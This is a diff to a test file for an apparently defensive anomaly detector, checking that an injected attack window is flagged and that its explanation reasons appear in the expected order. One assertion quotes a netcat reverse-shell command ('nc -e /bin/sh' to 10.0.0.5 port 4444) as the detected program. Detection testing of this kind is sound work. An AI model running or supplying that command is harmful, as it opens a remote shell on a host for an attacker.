@@ -65,8 +65,9 @@ test('attack capture: the injected window of web is flagged, its top reason the 
   assert.deepEqual(top.slice(0, 3).map((x) => x.feature), ['rule:new_risky_syscall', 'rule:new_destination_burst', 'rule:new_program']);
   assert.match(top[1]!.text, /^rule: connected to \d+ destinations never seen in baseline \(\d hosts?\)/);
   assert.match(top[2]!.text, /^rule: program never run in baseline: \/bin\/nc with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
-  // the forest's own reasons follow, the novelty facts first
-  assert.equal(top[3]!.feature, 'new_programs');
+  // the forest's own reasons follow, the novelty facts first, minus the new programs the rule named
+  assert.equal(top[3]!.feature, 'new_syscalls');
+  assert.ok(!top.some((x) => x.feature === 'new_programs'), 'the rule already named the new program');
   const texts = top.map((x) => x.text).join('\n');
   assert.match(texts, /ptrace called 12 times/);
   assert.match(texts, /never seen in baseline/);
